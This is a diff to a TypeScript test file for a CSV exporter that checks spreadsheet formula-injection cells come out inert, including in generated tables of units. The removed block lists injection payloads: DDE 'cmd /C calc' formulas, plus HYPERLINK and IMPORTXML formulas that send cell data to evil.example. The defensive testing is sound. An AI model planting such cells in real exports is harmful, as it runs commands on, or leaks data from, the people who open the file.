@@ -1,8 +1,17 @@
 // Comma-separated values: RFC 4180 as spreadsheets write it, encodings, and cells that a spreadsheet would run.
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { decodeText, readCsv, writeCsv } from "../../src/exchange/index.ts";
-import { PAYLOADS } from "../report/payloads.ts";
+import {
+  decodeText,
+  FIELDS_A,
+  FIELDS_B,
+  FIELDS_PLAIN,
+  readCsv,
+  readUnitList,
+  writeCsv,
+  writeUnitTable,
+} from "../../src/exchange/index.ts";
+import { FORMULAS, PAYLOADS } from "../report/payloads.ts";
 
 const rows = (text: string): readonly (readonly string[])[] => readCsv(text).table.rows;
 
@@ -86,37 +95,9 @@ function seen(text: string): string[][] {
   }
   return out;
 }
-const FORMULAS = [
-  "=1+1",
-  '=cmd|"/C calc"!A0',
-  '=HYPERLINK("https://evil.example?x="&A1,"click")',
-  "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
-  "+1+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  " =1+1",
-  "\u3000=1+1",
-  "＝1+1",
-  "＋1",
-  "－1+1",
-  "＠SUM(1)",
-  "'=1+1",
-  "''=1+1",
-  '";=1+1',
-  '","=1+1',
-  'x"\r\n"=1+1',
-  "=1+1\r\n=2+2,=3+3",
-  "-",
-  "--1",
-  "+",
-  "@",
-]; // biome-ignore format: one list
 
 describe("writing", () => {
-  it.each([...FORMULAS, ...PAYLOADS].map((text) => [JSON.stringify(text.slice(0, 40)), text] as const))(
+  it.each(PAYLOADS.map((text) => [JSON.stringify(text.slice(0, 40)), text] as const))(
     "%s is inert and comes back",
     (_, text) => {
       const table = { header: ["名称", text], rows: [[text, "安全"], ["x", text]] };
@@ -156,4 +137,35 @@ describe("writing", () => {
       { numRuns: 500 },
     );
   });
+});
+
+describe("tables of units", () => {
+  it.each(PAYLOADS.map((text) => [JSON.stringify(text.slice(0, 40)), text] as const))(
+    "with %s in every field run nothing and keep their rows and columns",
+    (_, text) => {
+      const unit = (code: string, word: string): object => ({
+        code,
+        name: word,
+        cls: word,
+        el: [word],
+        area: [word, word, word],
+        items: [
+          ["空间布局约束", `1-1.【水/禁止类】${word}`],
+          [word, word],
+        ],
+        extra: word,
+      });
+      for (const fields of [FIELDS_A, FIELDS_B, FIELDS_PLAIN])
+        for (const rows of fields === FIELDS_PLAIN ? (["unit", "item"] as const) : (["unit"] as const)) {
+          const table = (word: string): string[][] =>
+            seen(
+              writeCsv(writeUnitTable(readUnitList([unit(`ZH33100220001${word}`, word)]).list, { fields, rows }).table),
+            );
+          const cells = table(text);
+          // a tag inside a payload makes one more item, and nothing else makes one more of anything
+          if (!/【/.test(text)) expect(cells.map((row) => row.length)).toEqual(table("calm").map((row) => row.length));
+          for (const cell of cells.flat()) expect(cell).not.toMatch(RUNS);
+        }
+    },
+  );
 });
